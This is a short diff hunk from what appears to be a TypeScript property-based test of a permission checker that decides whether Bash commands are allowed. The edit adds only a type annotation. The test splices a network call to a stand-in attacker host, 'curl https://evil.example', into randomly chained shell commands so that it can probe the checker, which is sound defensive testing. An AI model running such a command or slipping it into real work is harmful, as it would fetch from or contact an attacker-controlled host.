@@ -118,7 +118,7 @@ describe('decide', () => {
         fc.array(op, { minLength: 5, maxLength: 5 }),
         fc.boolean(),
         (parts, intruder, at, ops, curl) => {
-          const all = [...parts];
+          const all: string[] = [...parts];
           all.splice(at % (all.length + 1), 0, curl ? 'curl https://evil.example' : intruder);
           const command = all.map((p, i) => (i === 0 ? p : `${ops[i % ops.length]!}${p}`)).join('');
           const decided = compiled.decide('Bash', [command]).action;
